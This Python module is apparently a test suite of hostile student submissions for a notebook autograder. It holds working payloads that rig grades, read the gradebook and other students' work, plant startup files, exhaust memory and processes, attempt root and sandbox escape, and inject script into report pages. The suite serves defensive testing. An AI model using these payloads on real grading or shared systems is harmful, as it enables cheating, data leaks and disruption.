"""Attacks on the grader: what a submission tries, and what it deserves all the same.

``STUDY`` are the 52 attacks of a study of stock nbgrader, of which 13 earned undeserved marks
there, 4 stopped the whole class, 5 leaked and 3 infected later students. ``DESIGN`` are aimed at
this grader: its channel, its proxies, its sandbox, its gradebook and its pages.

Every attack hands in wrong functions. What it deserves is what the same functions get without the
attack. Payloads bound themselves, so that one that is not stopped does no lasting harm.
"""

from __future__ import annotations

import json
import os
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

__all__ = ["DESIGN", "FUNCTIONS", "SECRET", "STUDY", "Attack", "Place", "hand_in", "wrong"]

#: The functions that problem set 2 asks for, and how they are called.
FUNCTIONS = {
    "sigmoid": "u",
    "logit": "p",
    "log_sigmoid": "u",
    "sigmoid_derivative": "u",
    "predict_proba": "X, w, b",
}

#: Printed by a payload that got at something it must not have. Written in two halves in the
#: payloads, so that the text of a payload does not contain it.
SECRET = "GOT-" + "IT"

GOT = '"GOT-" + "IT"'

Mangle = Callable[[dict[str, Any]], None]


@dataclass(frozen=True)
class Place:
    """Where things lie, so that attacks aim at what is really there."""

    root: Path
    submitted: Path
    output: Path


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    name: str
    cells: dict[str, str] = field(default_factory=dict)  # grade_id -> source
    mangle: Mangle | None = None  # done to the notebook
    files: Callable[[Path, Place], None] | None = None  # done to the folder afterwards
    like: str = "none"  # the control whose points it deserves at most: "none", "zero" or "half"
    fails: str = ""  # part of the reason, if it cannot be graded at all
    stays: bool = True  # its own points are those of the control, not less


def wrong(result: str = "None") -> dict[str, str]:
    """Functions that all return the same nonsense."""
    return {name: f"def {name}({args}):\n    return {result}\n" for name, args in FUNCTIONS.items()}


def before(code: str, **more: Any) -> dict[str, Any]:
    """An attack that runs when the first cell does."""
    cells = wrong()
    cells["sigmoid"] = textwrap.dedent(code).strip() + "\n\n" + cells["sigmoid"]
    return {"cells": cells, **more}


def during(code: str, result: str = "None", name: str = "sigmoid", **more: Any) -> dict[str, Any]:
    """An attack that runs when a test calls a function."""
    cells = wrong()
    body = textwrap.indent(textwrap.dedent(code).strip(), "    ")
    cells[name] = f"def {name}({FUNCTIONS[name]}):\n{body}\n    return {result}\n"
    return {"cells": cells, **more}


def hand_in(attack: Attack, exercise: Path, student: str, place: Place) -> None:
    """Write the submission."""
    notebook = json.loads(exercise.read_text("utf-8"))
    marks = {"@ROOT@": str(place.root), "@IN@": str(place.submitted), "@OUT@": str(place.output)}
    for cell in notebook["cells"]:
        source = attack.cells.get(cell["id"])
        if source is not None:
            for mark, path in marks.items():
                source = source.replace(mark, path)
            cell["source"] = source
    if attack.mangle:
        attack.mangle(notebook)
    folder = place.submitted / student / "ps2"
    folder.mkdir(parents=True)
    (folder / "ps2.ipynb").write_text(json.dumps(notebook), "utf-8")
    if attack.files:
        attack.files(folder, place)


# -- what can be done to a notebook ----------------------------------------------------------------


def on_tests(change: Callable[[dict[str, Any]], None]) -> Mangle:
    """Do something to every test cell."""

    def mangle(notebook: dict[str, Any]) -> None:
        for cell in notebook["cells"]:
            mark = cell["metadata"].get("nbgrader", {})
            if mark.get("points") and not mark["solution"]:
                change(cell)

    return mangle


def set_source(cell: dict[str, Any]) -> None:
    cell["source"] = "2.0"


def set_points(cell: dict[str, Any]) -> None:
    cell["metadata"]["nbgrader"]["points"] = 1000


def to_markdown(cell: dict[str, Any]) -> None:
    cell["cell_type"] = "markdown"
    del cell["outputs"], cell["execution_count"]


def mark(**values: Any) -> Callable[[dict[str, Any]], None]:
    return lambda cell: cell["metadata"]["nbgrader"].update(values)


def tag(name: str) -> Callable[[dict[str, Any]], None]:
    return lambda cell: cell["metadata"].update(tags=[name])


def rename(cell: dict[str, Any]) -> None:
    cell["metadata"]["nbgrader"]["grade_id"] += "-mine"
    cell["id"] += "-mine"


def drop_tests(notebook: dict[str, Any]) -> None:
    notebook["cells"] = [
        c for c in notebook["cells"] if "values" not in c["id"] and "shape" not in c["id"]
    ]


def strip(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        cell["metadata"].pop("nbgrader", None)


def double_tests(notebook: dict[str, Any]) -> None:
    notebook["cells"] += [dict(cell) for cell in notebook["cells"] if "values" in cell["id"]]


def kernelspec(notebook: dict[str, Any]) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash"}
    notebook["metadata"]["language_info"] = {"name": "bash"}


def ship(name: str, text: str) -> Callable[[Path, Place], None]:
    return lambda folder, _: (folder / name).write_text(text) and None


def overwrite(data: bytes) -> Callable[[Path, Place], None]:
    return lambda folder, _: (folder / "ps2.ipynb").write_bytes(data) and None


def link(target: Callable[[Place], Path], name: str = "ps2.ipynb") -> Callable[[Path, Place], None]:
    def make(folder: Path, place: Place) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target(place))

    return make


def link_folder(folder: Path, place: Place) -> None:
    for file in folder.iterdir():
        file.unlink()
    folder.rmdir()
    folder.symlink_to(place.submitted / "honest-ada" / "ps2")


def a_pipe(folder: Path, _: Place) -> None:
    (folder / "ps2.ipynb").unlink()
    os.mkfifo(folder / "ps2.ipynb")


def a_folder(folder: Path, _: Place) -> None:
    (folder / "ps2.ipynb").unlink()
    (folder / "ps2.ipynb").mkdir()


def huge(folder: Path, _: Place) -> None:
    with open(folder / "ps2.ipynb", "wb") as file:
        file.truncate(50_000_000)


READ = """
import glob, os
for pattern in ({paths}):
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as file:
                if {needle} in file.read():
                    print({got})
        except OSError:
            pass
"""


def read(paths: str, needle: str, **more: Any) -> dict[str, Any]:
    code = READ.format(paths=paths, needle=needle, got=GOT)
    attack = before(code, **more)
    attack["cells"]["logit"] = f"def logit(p):\n{textwrap.indent(code, '    ')}\n    return None\n"
    return attack


LIAR = """
class Liar(float):
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __truediv__ = __sub__
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __eq__ = __lt__
    def __bool__(self): return True
    def __array__(self, *args, **kwargs): return np.array(0.5)
    def __array_ufunc__(self, *args, **kwargs): return True
    def __array_function__(self, *args, **kwargs): return True
    def __hash__(self): return 0
    @property
    def shape(self): return ()
    dtype = np.dtype(float)
"""


def returning(preamble: str, result: str, **more: Any) -> dict[str, Any]:
    cells = wrong(result)
    cells["sigmoid"] = textwrap.dedent(preamble).strip() + "\n\n" + cells["sigmoid"]
    return {"cells": cells, **more}


#: The 52 attacks of the study, in its order.
STUDY = [
    Attack("edits the tests", cells=wrong(), mangle=on_tests(set_source)),
    Attack("raises the points", cells=wrong(), mangle=on_tests(set_points)),
    Attack("makes the tests text", cells=wrong(), mangle=on_tests(to_markdown)),
    Attack("changes the kernel", cells=wrong(), mangle=kernelspec),
    Attack("ships the checks", cells=wrong(), files=ship("checks.py", "def check(*a): 1/0")),
    Attack("renames the tests", cells=wrong(), mangle=on_tests(rename)),
    Attack("says a test is none", cells=wrong(), mangle=on_tests(mark(grade=False))),
    Attack("says a test is an answer", cells=wrong(), mangle=on_tests(mark(solution=True))),
    Attack("deletes the tests", cells=wrong(), mangle=drop_tests),
    Attack("strips all marks", cells=wrong(), mangle=strip),
    Attack("doubles the tests", cells=wrong(), mangle=double_tests),
    Attack("comes from the future", cells=wrong(), mangle=on_tests(mark(schema_version=99))),
    Attack("tags the tests to be skipped", cells=wrong(), mangle=on_tests(tag("skip-execution"))),
    Attack("tags the tests to raise", cells=wrong(), mangle=on_tests(tag("raises-exception"))),
    Attack("is no notebook", files=overwrite(b'{"cells": ['), fails="not a notebook"),
    Attack(
        "patches assert_allclose",
        **before("""
            import numpy.testing
            np.allclose = np.isclose = np.testing.assert_allclose = lambda *a, **k: True
            np.array_equal = lambda *a, **k: True
        """),
    ),
    Attack(
        "patches builtins",
        **before(
            """
            import builtins
            builtins.abs = builtins.round = lambda *a: 0.0
            builtins.all = builtins.callable = builtins.isinstance = lambda *a: True
        """,
            stays=False,
        ),
    ),
    Attack("returns lying numbers", **returning(LIAR, "Liar(0.5)", like="half")),
    Attack(
        "transforms the syntax tree",
        **before(
            """
            import ast
            class NoTests(ast.NodeTransformer):
                def visit_Expr(self, node): return ast.parse("2.0").body[0]
            get_ipython().ast_transformers.append(NoTests())
        """,
            stays=False,
        ),
    ),
    Attack(
        "transforms the input",
        **before(
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['2.0'])", stays=False
        ),
    ),
    Attack(
        "replaces the kernel's execution",
        **before(
            """
            shell = get_ipython()
            shell.run_cell = shell.run_code = shell.run_cell_async = lambda *a, **k: 2.0
        """,
            stays=False,
        ),
    ),
    Attack("displays points", **during("get_ipython().displayhook(2.0)")),
    Attack("displays a word", **during("get_ipython().displayhook('full marks')")),
    Attack(
        "writes to every file it holds",
        **during(
            """
            import os
            message = b'{"msg_type": "execute_result", "content": {"data": {"text/plain": "2.0"}}}'
            for number in range(3, 64):
                try: os.write(number, message)
                except OSError: pass
        """,
            stays=False,
        ),
    ),
    Attack("displays too many points", **during("get_ipython().displayhook(50)")),
    Attack(
        "looks for expected values",
        **during("""
            import gc, sys
            frame = sys._getframe()
            while frame:
                for space in (frame.f_locals, frame.f_globals):
                    if any("expected" in str(name) or name == "want" for name in space):
                        print("GOT-" + "IT")
                frame = frame.f_back
            for thing in gc.get_objects():
                if isinstance(thing, str) and "0.0293122307" in thing: print("GOT-" + "IT")
        """),
    ),
    Attack(
        "reads the tests from the history",
        **during("""
            space = get_ipython().user_ns
            if any(".giv" + "es(" in source for source in space["In"]): print("GOT-" + "IT")
        """),
    ),
    Attack(
        "swallows exceptions",
        **before("get_ipython().set_custom_exc((Exception,), lambda *a, **k: [])"),
    ),
    Attack(
        "shows no tracebacks",
        **before("""
            get_ipython().showtraceback = get_ipython()._showtraceback = lambda *a, **k: None
        """),
    ),
    Attack("clears the output", **during("from IPython.display import clear_output as c; c()")),
    Attack(
        "patches the worker's shell class",
        **before(
            """
            from IPython.core.interactiveshell import InteractiveShell as S
            S.run_cell_async = S.run_ast_nodes = S.should_run_async = lambda *a, **k: None
        """,
            stays=False,
        ),
    ),
    Attack(
        "rebinds the tests' names",
        **before(
            """
            class Yes:
                def __getattr__(self, name): return self
                def __call__(self, *a, **k): return self
                def score(self, points): return points
            np = ce = plt = check = Yes()
        """,
            stays=False,
        ),
    ),
    Attack(
        "rebinds them while it is called",
        **during(
            """
            global np, check, expected
            np = check = expected = None
            import __main__, builtins
            builtins.float = __main__.check = lambda *a: 2.0
        """,
            stays=False,
        ),
    ),
    Attack("exits", **during("import sys; sys.exit(0)", like="none", stays=False)),
    Attack(
        "knows the visible tests by heart",
        cells={
            **wrong(),
            "sigmoid": textwrap.dedent("""
                def sigmoid(u):
                    known = {0.0: 0.5, -2.0: 0.11920292202211755, -1.0: 0.2689414213699951,
                             1.0: 0.7310585786300049, 2.0: 0.8807970779778823}
                    return np.vectorize(lambda x: known.get(float(x), 0.0))(u)
            """),
        },
        like="visible",
        stays=False,
    ),
    Attack(
        "calls the course's own functions",
        cells={
            name: f"import ce_lib.logistic as other\nfrom ce_lib import {name} as f\n"
            f"def {name}({args}):\n"
            f"    for g in (lambda *a: ce.{name}(*a), lambda *a: other.{name}(*a), f):\n"
            f"        try: return g({args})\n        except Exception: pass\n"
            for name, args in list(FUNCTIONS.items())[:4]
        }
        | {"predict_proba": wrong()["predict_proba"]},
        stays=False,
    ),
    Attack(
        "asks whether it is graded",
        **before("""
            import os
            if "NBGRADER_EXECUTION" in os.environ: print("GOT-" + "IT")
        """),
    ),
    Attack("reads the tests next door", **read('"./*", "../*", "/tmp/*", "*/*"', 'b"0.0293122"')),
    Attack(
        "reads the source",
        **read(
            '"@ROOT@/solutions/*/*", "@ROOT@/_build/nbgrader/*/*/*", "../../../source/*/*"',
            'b"HIDDEN TESTS"',
        ),
    ),
    Attack("reads the gradebook", **read('"@OUT@/*.db", "@ROOT@/*.db", "../../*.db"', 'b"SQLite"')),
    Attack(
        "reads other students",
        **read('"@IN@/*/*/*", "@OUT@/*/*/*/*", "../*", "../*/*"', 'b"nbgrader"'),
    ),
    Attack(
        "leaves a process that writes the gradebook",
        **before("""
            import os, time, sqlite3
            if os.fork() == 0:
                os.setsid()
                for _ in range(20):
                    try:
                        c = sqlite3.connect("@OUT@/gradebook.db", timeout=0.1)
                        c.execute("update grade set auto_score = 99")
                        c.commit()
                    except Exception: pass
                    time.sleep(0.1)
                os._exit(0)
        """),
    ),
    Attack(
        "locks the gradebook",
        **before("""
            import sqlite3
            try:
                held = sqlite3.connect("file:@OUT@/gradebook.db?mode=rw", uri=True, timeout=0.1)
                held.execute("begin exclusive")
                print("GOT-" + "IT")
            except Exception: pass
        """),
    ),
    Attack("kills its parent", **during("import os; os.kill(os.getppid(), 9)", stays=False)),
    Attack(
        "writes a start-up file",
        **before("""
            import os, pathlib
            for home in {os.path.expanduser("~"), "/root", "@ROOT@", "/tmp/home"}:
                try:
                    folder = pathlib.Path(home) / ".ipython/profile_default/startup"
                    folder.mkdir(parents=True, exist_ok=True)
                    (folder / "00.py").write_text("print('INFECT' + 'ED')")
                except OSError: pass
        """),
    ),
    Attack(
        "writes the instructor's configuration",
        **before("""
            import os
            for path in ("@ROOT@", "@OUT@", "../../..", "/"):
                if os.access(path, os.W_OK): print("GOT-" + "IT")
        """),
    ),
    Attack("ships a numpy", cells=wrong(), files=ship("numpy.py", "print('INFECT' + 'ED')")),
    Attack(
        "ships a launcher",
        cells=wrong(),
        files=ship("ipykernel_launcher.py", "print('INFECT' + 'ED')"),
    ),
    Attack(
        "links a file to the gradebook",
        cells=wrong(),
        files=link(lambda place: place.output / "gradebook.db", "data.csv"),
    ),
    Attack(
        "opens connections",
        **before("""
            import socket
            for address in (("127.0.0.1", 9), ("192.0.2.1", 80)):
                s = socket.socket(); s.settimeout(0.2)
                try:
                    s.connect(address)
                    print("GOT-" + "IT")
                except ConnectionRefusedError: print("GOT-" + "IT")
                except OSError: pass
        """),
    ),
    Attack(
        "takes all memory, files and processes",
        **before("""
            import os, resource, time
            held, children = [], 0
            try:
                for _ in range(60): held.append(bytearray(100_000_000))
                print("GOT-" + "IT")
            except MemoryError: pass
            del held
            try:
                for _ in range(100):
                    if os.fork() == 0:
                        time.sleep(3); os._exit(0)
                    children += 1
            except OSError: pass
            if children > 40: print("GOT-" + "IT")
            try:
                with open("/tmp/full", "wb") as file:
                    for _ in range(200): file.write(bytes(1_000_000))
                print("GOT-" + "IT")
            except OSError: pass
        """),
    ),
    Attack(
        "floods the output",
        **before("""
            print("x" * 30_000_000)
            for number in range(100_000): print(number)
            from IPython.display import HTML, Markdown, display
            display(HTML("<script>alert(1)</script>"))
        """),
    ),
]
assert len(STUDY) == 52

WORKER = """
import gc
from ce_lib.grading import wire, worker as module
me = next(o for o in gc.get_objects() if type(o) is module.Worker)
end = me.channel._end
"""

ON_SEND = (
    WORKER
    + """
plain = me.channel.send
def send(message, arrays=None, until=None):
    {change}
    return plain(message, arrays, until)
me.channel.send = send
"""
)


def on_send(change: str, **more: Any) -> dict[str, Any]:
    """An attack that changes what the worker says."""
    code = ON_SEND.replace("{change}", textwrap.indent(textwrap.dedent(change).strip(), "    ")[4:])
    return before(code, **{"stays": False, **more})


def value(json_value: str, arrays: str = "[]") -> dict[str, Any]:
    """An attack that answers every call with a crafted value."""
    return on_send(
        f"""
        if "value" in message:
            message["value"] = {json_value}
            arrays = {arrays}
    """,
        like="half",
    )


def raw(data: str) -> dict[str, Any]:
    """An attack that writes these bytes where an answer is expected."""
    return during(WORKER + f"\nimport os, struct, time\nend.sendall({data})", stays=False)


#: Attacks on this design.
DESIGN = [
    Attack("announces a frame without end", **raw('struct.pack("!I", 1_999_999) + b"["')),
    Attack("announces a frame beyond all bounds", **raw('b"\\xff" * 8')),
    Attack("nests a header without end", **raw('struct.pack("!I", 200_000) + b"[" * 200_000')),
    Attack(
        "sends a header of many empty lists",
        **raw('struct.pack("!I", 1_500_001) + b"[" + b"[]," * 499_999 + b"[]]"'),
    ),
    Attack(
        "drips a frame byte by byte",
        **during(
            WORKER
            + """
import struct, time
end.sendall(struct.pack("!I", 1000))
for _ in range(40):
    end.sendall(b" "); time.sleep(0.1)
""",
            stays=False,
        ),
    ),
    Attack(
        "answers before it is asked",
        **before(
            WORKER
            + """
for number in range(500):
    me.channel.send({"seq": number, "value": 0.5, "out": "", "err": "", "warned": []})
""",
            stays=False,
        ),
    ),
    Attack("answers for another call", **on_send('message["seq"] = message.get("seq", 0) + 1')),
    Attack("answers twice", **on_send("plain(message, arrays, until)")),
    Attack("answers with a list for a message", **raw('struct.pack("!I", 7) + b"[[],[]]"')),
    Attack("hangs up", **during(WORKER + "\nend.close()", stays=False)),
    Attack(
        "hands the channel to a child",
        **during(
            WORKER
            + """
import os
if os.fork() == 0:
    for number in range(200):
        try: me.channel.send({"seq": number, "value": 0.5})
        except Exception: pass
    os._exit(0)
""",
            stays=False,
        ),
    ),
    Attack("returns a pickle", **value('["array", "|O", [1], 0]', '[b"cos\\nsystem\\n(S"]')),
    Attack("returns an array of records", **value('["array", "f8,f8", [1], 0]', "[bytes(16)]")),
    Attack(
        "returns an array of nothing",
        **value('["array", "<U0", [1 << 24, 1 << 24, 1 << 14], 0]', '[b""]'),
    ),
    Attack("returns a shape that lies", **value('["array", "<f8", [1 << 20], 0]', "[bytes(8)]")),
    Attack("returns a negative shape", **value('["array", "<f8", [-1, -1], 0]', "[bytes(8)]")),
    Attack("returns a huge integer", **value('["int", "f" * 1_000_000]')),
    Attack("returns digits without end", **value("10 ** 4000")),
    Attack("returns the judge's own function", **value('["own", 0]')),
    Attack("returns a reference to nothing", **value('["ref", -1, True, "f", "function", "f"]')),
    Attack("returns an unknown kind", **value('["__import__", "os"]')),
    Attack("returns a dict of lists", **value('["dict", [["list"], 1]]')),
    Attack(
        "returns itself in itself",
        **returning("loop = []\nloop.append(loop)", "loop", like="half", stays=False),
    ),
    Attack("returns all numbers", **returning("", "list(range(10_000_000))", stays=False)),
    Attack(
        "returns a lying array",
        **returning(
            """
        class Lying(np.ndarray):
            def __eq__(self, other): return True
            def __array_ufunc__(self, *a, **k): return np.array(True)
            def tobytes(self): return b""
        """,
            "np.zeros(3).view(Lying)",
            like="half",
            stays=False,
        ),
    ),
    Attack(
        "says that nothing went wrong",
        **on_send(
            """
        message.pop("error", None)
        message.update(value=True, passed=True, score=2.0, points=2.0)
    """,
            like="half",
        ),
    ),
    Attack(
        "lies about its names",
        **on_send("""
        if "names" in message:
            message["names"] = {name: 2.0 for name in message["names"]}
            message["names"]["check"] = ["ref", 0, True, "check", "function", "check"]
    """),
    ),
    Attack(
        "changes arguments into something else",
        **on_send("""
        if "seq" in message and "out" in message:
            message["args"], message["kwargs"] = "text", 7
    """),
    ),
    Attack("raises what is no error", **during("raise KeyboardInterrupt", stays=False)),
    Attack(
        "raises a liar",
        **during(
            """
        class NotImplementedError(Exception):
            def __str__(self): raise SystemExit
            def __repr__(self): return "<script>" * 1000
        raise NotImplementedError
    """,
            stays=False,
        ),
    ),
    Attack(
        "warns without end",
        **during(
            """
        import warnings
        for number in range(20_000): warnings.warn("<script>alert(1)</script>")
    """,
            stays=False,
        ),
    ),
    Attack(
        "prints the end of the page",
        **during('print("</pre></section><script>alert(1)</script>\\x1b[2J\\x00")'),
    ),
    Attack(
        "answers in HTML",
        cells={
            **wrong(),
            "probability": "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "plot": "class A:\n  def __repr__(s): return '</pre><script>alert(1)</script>'\nA()",
        },
    ),
    Attack(
        "draws a page",
        **before("""
        from IPython.display import display
        class Fake:
            def _repr_png_(self): return b'"><script>alert(1)</script>'
            def _repr_html_(self): return '<script>alert(1)</script>'
            def _repr_javascript_(self): return 'alert(1)'
        display(Fake())
    """),
    ),
    Attack(
        "draws without end",
        **before("""
        for number in range(30): plt.figure(figsize=(1, 1))
    """),
    ),
    Attack(
        "asks the course for what it hides",
        **before("""
        for path in ("grading", "cli", "course", "checks.sys", "logistic.np", "__builtins__",
                     "sigmoid.__globals__", "logistic.sigmoid.__globals__", "_floats", "doctor"):
            try:
                kind, thing = ce.ask(path, "describe", (), {})
                if kind != "missing": print("GOT-" + "IT", path)
            except Exception: pass
    """),
    ),
    Attack(
        "asks for a table beforehand",
        cells={
            **wrong(),
            "logit": "try: table = ce.sigmoid(np.linspace(-1000, 1000, 200_001))\n"
            "except Exception: table = None\n" + wrong()["logit"],
            "sigmoid": "try: table = ce.sigmoid(np.linspace(-1000, 1000, 200_001))\n"
            "except Exception: table = None\n"
            "def sigmoid(u):\n    at = np.round((np.asarray(u) + 1000) * 100)\n"
            "    return table[at.astype(int)]\n",
        },
        stays=False,
    ),
    Attack(
        "asks without end",
        **during(
            """
        while True:
            try: ce.sigmoid(0.0)
            except RuntimeError: pass
    """,
            stays=False,
        ),
    ),
    Attack(
        "asks for too much",
        **before("""
        for size in (3_000_000, 20_000_000):
            try: ce.sigmoid(np.zeros(size))
            except Exception: pass
    """),
    ),
    Attack(
        "calls back what it never got",
        **during(
            WORKER
            + """
for number in (-1, 0, 7, "0", None):
    try:
        me.ask({"op": "callback", "ref": number, "args": [["list"], ["dict"]]}, [])
        print("GOT-" + "IT")
    except Exception: pass
""",
            stays=False,
        ),
    ),
    Attack(
        "talks through an abstract socket",
        **before("""
        import socket
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect("\\0course-attack")
            print("GOT-" + "IT")
        except OSError: pass
        t = socket.socket(socket.AF_UNIX)
        t.bind("\\0course-attack"); t.listen()
    """),
    ),
    Attack(
        "leaves a note for the next",
        **before("""
        import os
        for folder in ("/tmp", "/dev/shm", "/dev", "/", "/engine", "/packages", "/var/tmp", "/run"):
            path = os.path.join(folder, "note")
            if os.path.exists(path): print("GOT-" + "IT")
            try: open(path, "w").write("for you")
            except OSError: pass
    """),
    ),
    Attack(
        "looks into /proc and /sys",
        **before("""
        import glob, os
        for path in ("/proc/1/environ", "/proc/self/mem", "/proc/sys/kernel/hostname",
                     "/sys/kernel", "/proc/sysrq-trigger", "/proc/self/root",
                     *glob.glob("/proc/[0-9]*/cmdline")):
            if os.path.exists(path): print("GOT-" + "IT", path)
    """),
    ),
    Attack(
        "tries to become root",
        **before("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        done = [os.getuid() == 0]
        for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.nice(-5),
                     lambda: open("/proc/self/uid_map", "w")):
            try: call(); done.append(True)
            except (OSError, PermissionError): done.append(False)
        done.append(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
        done.append(libc.umount2(b"/proc", 2) == 0)
        done.append(libc.ptrace(16, 1, 0, 0) == 0)
        done.append(libc.sethostname(b"mine", 4) == 0)
        if any(done): print("GOT-" + "IT", done)
    """),
    ),
    Attack(
        "uncovers /proc in a namespace of its own",
        **before(
            """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(0x10000000 | 0x00020000 | 0x20000000) == 0:
            if libc.umount2(b"/proc", 2) == 0: print("GOT-" + "IT")
            if os.fork() == 0:
                code = libc.mount(b"proc", b"/proc", b"proc", 0, None)
                os._exit(1 if code == 0 else 0)
            if os.wait()[1]: print("GOT-" + "IT")
    """,
            stays=False,
        ),
    ),
    Attack(
        "signals everybody",
        **during(
            """
        import os, signal
        for number in (signal.SIGTERM, signal.SIGKILL):
            try: os.kill(-1, number)
            except OSError: pass
    """,
            stays=False,
        ),
    ),
    Attack("stops itself", **during("import os; os.kill(os.getpid(), 19)", stays=False)),
    Attack(
        "ignores the interrupt",
        **during(
            """
        import signal, time
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True: time.sleep(1)
    """,
            stays=False,
        ),
    ),
    Attack(
        "catches the interrupt",
        **during(
            """
        while True:
            try:
                while True: pass
            except BaseException: pass
    """,
            stays=False,
        ),
    ),
    Attack(
        "leaves processes behind",
        **before("""
        import os, time
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(120)
                os._exit(0)
    """),
    ),
    Attack(
        "turns the clock",
        **before("""
        import time, ctypes
        time.monotonic = time.time = lambda: 0.0
        class T(ctypes.Structure): _fields_ = [("s", ctypes.c_long), ("n", ctypes.c_long)]
        if ctypes.CDLL(None).clock_settime(0, ctypes.byref(T(1, 0))) == 0: print("GOT-" + "IT")
    """),
    ),
    Attack(
        "answers each call differently",
        **returning(
            "import itertools\ncount = itertools.count()",
            "next(count) % 2 * 0.5",
            like="half",
            stays=False,
        ),
    ),
    Attack("recurses without end", **during("return sigmoid(u)", stays=False)),
    Attack("crashes the interpreter", **during("import ctypes; ctypes.string_at(0)", stays=False)),
    Attack("ends the process in the first cell", **before("import os; os._exit(0)", stays=False)),
    Attack(
        "takes memory in many processes",
        **before(
            """
        import os, time
        for _ in range(15):
            try:
                if os.fork() == 0:
                    held = bytearray(b"x") * 400_000_000
                    time.sleep(4); os._exit(0)
            except OSError: break
        time.sleep(1.5)
    """,
            stays=False,
        ),
    ),
    Attack(
        "starts threads without end",
        **before("""
        import threading, time
        started = 0
        try:
            for _ in range(200):
                threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
                started += 1
        except RuntimeError: pass
        if started > 100: print("GOT-" + "IT")
    """),
    ),
    Attack(
        "fills the disk with small files",
        **before("""
        made = 0
        try:
            for number in range(20_000):
                open(f"/tmp/{number}", "w").close(); made += 1
        except OSError: pass
        if made > 10_000: print("GOT-" + "IT")
    """),
    ),
    Attack(
        "patches the worker",
        **before(
            """
        from ce_lib.grading import worker, wire, isolate
        worker.told = worker._picture = lambda *a: {}
        wire.encode = worker.encode = lambda *a: ["array", "<f8", [], 0]
        isolate.LIMITS.clear()
    """,
            like="half",
            stays=False,
        ),
    ),
    Attack(
        "traces everything",
        **before(
            """
        import sys, threading
        sys.settrace(lambda *a: None); sys.setprofile(lambda *a: None)
        sys.meta_path.clear(); sys.modules.pop("numpy", None); sys.path.clear()
    """,
            stays=False,
        ),
    ),
    Attack(
        "links the notebook to another's",
        cells=wrong(),
        fails="is a link",
        files=link(lambda p: p.submitted / "honest-ada" / "ps2" / "ps2.ipynb"),
    ),
    Attack("links its folder to another's", cells=wrong(), fails="is a link", files=link_folder),
    Attack("links to what never ends", fails="is a link", files=link(lambda _: Path("/dev/zero"))),
    Attack("hands in a pipe", fails="not an ordinary file", files=a_pipe),
    Attack("hands in a folder", fails="not an ordinary file", files=a_folder),
    Attack("hands in 50 MB", fails="too large", files=huge),
    Attack(
        "nests the notebook without end",
        fails="not a notebook",
        files=overwrite(b'{"cells":' + b"[" * 500_000),
    ),
    Attack("hands in half a surrogate", **during('print("\\ud800")')),
    Attack(
        "writes half a surrogate into an answer", cells={**wrong(), "probability": "\ud800\x00<b>"}
    ),
    Attack("forges its time", cells=wrong(), files=ship("timestamp.txt", "2\x00 o'clock")),
    Attack(
        "answers with a book", cells={**wrong(), "probability": "x" * 200_000}, fails="characters"
    ),
]
assert len(DESIGN) >= 40
